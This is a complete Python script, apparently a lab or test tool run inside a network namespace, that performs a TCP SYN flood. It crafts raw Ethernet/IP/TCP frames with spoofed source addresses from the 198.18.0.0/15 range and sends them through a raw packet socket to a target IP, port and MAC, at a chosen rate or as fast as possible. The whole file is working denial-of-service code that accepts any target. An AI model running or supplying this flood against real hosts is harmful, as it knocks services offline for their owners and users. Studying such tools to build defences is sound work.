"""A SYN flood from made-up addresses: `flood.py SECONDS RATE DST PORT DST_MAC DEVICE` in its namespace; RATE 0 is as fast as
it goes. Prints how many frames it sent."""

import random
import socket
import struct
import sys
import time

FRAMES = 8192


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(src_mac, dst_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    seconds, rate, dst, port, dst_mac, device = sys.argv[1:]
    seconds, rate = float(seconds), int(rate)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    own = sock.getsockname()[4]
    rng = random.Random(1)
    # 198.18.0.0/15 (RFC 2544): nobody's.
    frames = [syn(own, bytes.fromhex(dst_mac.replace(":", "")), bytes([198, 18 + (n & 1), rng.randrange(256),
                                                                        rng.randrange(256)]),
                  socket.inet_aton(dst), rng.randrange(1024, 65536), int(port), rng.getrandbits(32))
              for n in range(FRAMES)]
    sent, start = 0, time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        if rate and sent >= rate * passed:
            time.sleep(0.001)
            continue
        for frame in frames[sent % FRAMES:sent % FRAMES + 32]:
            try:
                sock.send(frame)
            except OSError:
                pass  # its queue is full
        sent += 32
    print(sent)


if __name__ == "__main__":
    main()
